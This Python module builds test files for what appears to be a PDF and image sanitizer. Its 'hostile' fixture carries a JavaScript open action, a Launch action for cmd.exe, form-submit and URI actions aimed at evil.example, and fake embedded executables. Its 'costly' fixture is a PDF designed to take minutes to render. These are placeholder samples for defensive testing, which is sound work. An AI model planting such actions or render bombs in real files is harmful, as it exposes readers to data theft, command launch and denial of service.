"""Files as people send them, good and bad."""

from io import BytesIO

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String
from PIL import Image, ImageDraw

A4 = (595, 842)


def picture(width: int = 600, height: int = 400, *, kind: str = "JPEG", **how: object) -> bytes:
    """A picture whose upper left corner is red."""
    image = Image.new("RGB", (width, height), "white")
    ImageDraw.Draw(image).rectangle((0, 0, width // 4, height // 4), fill="red")
    out = BytesIO()
    image.save(out, kind, **how)
    return out.getvalue()


def turned() -> bytes:
    """A picture that a telephone held sideways took: it says so in its notes, with its place."""
    exif = Image.Exif()
    exif[0x0112] = 6  # to be turned clockwise by a quarter
    exif[0x010E] = "where I live"
    return picture(exif=exif, comment=b"secret comment")


def pdf(pages: int = 1, text: str = "EVIDENCE", **save: object) -> bytes:
    """A PDF with a line of text on each page."""
    with Pdf.new() as made:
        _fill(made, pages, text)
        return _saved(made, **save)


def hostile() -> bytes:
    """A PDF with everything that acts or hides."""
    with Pdf.new() as made:
        _fill(made, 2, "CONTRACT")
        script = Dictionary(S=Name.JavaScript, JS=String("app.alert('SECRET')"))
        made.Root.OpenAction = script
        made.Root.AA = Dictionary(WC=script)
        made.Root.URI = Dictionary(Base=String("http://evil.example"))
        made.attachments["virus.exe"] = b"MZ SECRET"
        made.Root.Names["/JavaScript"] = Dictionary(Names=Array([String("x"), script]))
        made.Root.Metadata = made.make_stream(b"<x>SECRET</x>", Type=Name.Metadata, Subtype=Name.XML)
        made.Root.AcroForm = Dictionary(Fields=Array(), XFA=made.make_stream(b"<xdp>SECRET</xdp>"))
        made.docinfo["/Author"] = "SECRET"
        page = made.pages[0]
        page.AA = Dictionary(O=Dictionary(S=Name.Launch, F=String("cmd.exe")))
        page.Annots = Array([_link(action) for action in _actions(script)] + [_attachment(made)])
        return _saved(made)


def _actions(script: Dictionary) -> list[Dictionary]:
    return [
        script,
        Dictionary(S=Name.Launch, F=String("cmd.exe")),
        Dictionary(S=Name.URI, URI=String("http://evil.example")),
        Dictionary(S=Name.SubmitForm, F=String("http://evil.example")),
        Dictionary(S=Name.GoToE, F=String("other.pdf")),
        Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]), Next=Array([script])),
    ]


def _link(action: Dictionary) -> Dictionary:
    rect = Array([0, 0, 100, 100])
    return Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=rect, A=action, AA=Dictionary(E=action))


def _attachment(made: Pdf) -> Dictionary:
    file = Dictionary(EF=Dictionary(F=made.make_stream(b"MZ SECRET")), F=String("a.exe"))
    rect = Array([0, 0, 10, 10])
    return Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=rect, FS=file)


def costly(*, page: int, pages: int = 2) -> bytes:
    """A small PDF with one page that takes minutes to show: forms that draw forms, ten times each."""
    with Pdf.new() as made:
        _fill(made, pages, "COSTLY")
        inner = made.make_stream(b"0 0 m 500 500 l S " * 1000, _form())
        for _ in range(6):
            inner = made.make_stream(b"/X Do " * 10, _form(inner))
        made.pages[page - 1].Resources.XObject = Dictionary(X=inner)
        made.pages[page - 1].Contents = made.make_stream(b"/X Do")
        return _saved(made)


def _form(inner: Stream | None = None) -> Dictionary:
    resources = Dictionary() if inner is None else Dictionary(XObject=Dictionary(X=inner))
    box = Array([0, 0, *A4])
    return Dictionary(Type=Name.XObject, Subtype=Name.Form, BBox=box, Resources=resources)


def pixels(width: int, height: int) -> bytes:
    """A PDF whose second page has a picture of this size that nearly takes no place: all of it is white."""
    with Pdf.new() as made:
        _fill(made, 2, "PIXELS")
        image = Dictionary(
            Type=Name.XObject,
            Subtype=Name.Image,
            Width=width,
            Height=height,
            BitsPerComponent=1,
            ColorSpace=Name.DeviceGray,
        )
        page = made.pages[1]
        page.Resources.XObject = Dictionary(I=made.make_stream(b"\xff" * (width * height // 8), image))
        page.Contents = made.make_stream(b"500 0 0 500 50 50 cm /I Do")
        return _saved(made)


def encrypted(*, owner_only: bool = False) -> bytes:
    """A PDF with a password, or one that only forbids."""
    how = pikepdf.Encryption(owner="secret", user="" if owner_only else "open me")
    return pdf(encryption=how)


def _fill(made: Pdf, pages: int, text: str) -> None:
    font = made.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    for number in range(1, pages + 1):
        page = made.add_blank_page(page_size=A4)
        page.Resources = Dictionary(Font=Dictionary(F1=font))
        page.Contents = made.make_stream(f"BT /F1 40 Tf 80 700 Td ({text} {number}) Tj ET".encode())


def _saved(made: Pdf, **how: object) -> bytes:
    out = BytesIO()
    made.save(out, **how)  # type: ignore[arg-type]
    return out.getvalue()


def sealed(*, signed: bool = False) -> bytes:
    """A page with a red seal in its form layer, as it is put there by signing; `signed`: by a signature."""
    with Pdf.new() as made:
        _fill(made, 1, "LETTER")
        looks = made.make_stream(b"1 0 0 rg 0 0 100 100 re f", _form())
        looks.BBox = Array([0, 0, 100, 100])
        seal = _field(made, Name.Sig if signed else Name.Btn, [300, 300, 400, 400], AP=Dictionary(N=looks))
        seal.Ff = 1 << 16  # a button that is pushed, not ticked
        if signed:
            seal.V = made.make_indirect(_signature())
            made.Root.AcroForm.SigFlags = 3
            made.Root.Perms = Dictionary(DocMDP=seal.V)
        return _saved(made)


def _signature() -> Dictionary:
    return Dictionary(
        Type=Name.Sig,
        Filter=Name("/Adobe.PPKLite"),
        SubFilter=Name("/adbe.pkcs7.detached"),
        ByteRange=Array([0, 100, 200, 100]),
        Contents=String("SIGNED BY"),
        Name=String("MADE UP"),
    )


def filled_in(value: str) -> bytes:
    """A form with a typed value, which viewers draw: no appearance of it is in the file."""
    with Pdf.new() as made:
        _fill(made, 1, "FORM")
        font = made.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
        field = _field(made, Name.Tx, [80, 500, 400, 540], V=String(value), DA=String("/F1 20 Tf 0 g"))
        made.Root.AcroForm.DR = Dictionary(Font=Dictionary(F1=font))
        made.Root.AcroForm.NeedAppearances = True
        field.F = 4
        return _saved(made)


def _field(made: Pdf, kind: Name, rect: list[int], **more: object) -> Dictionary:
    facts = Dictionary(
        Type=Name.Annot, Subtype=Name.Widget, FT=kind, T=String("field"), F=4, Rect=Array(rect)
    )
    for key, value in more.items():
        facts[f"/{key}"] = value
    field = made.make_indirect(facts)
    made.pages[0].Annots = Array([field])
    made.Root.AcroForm = Dictionary(Fields=Array([field]))
    return field
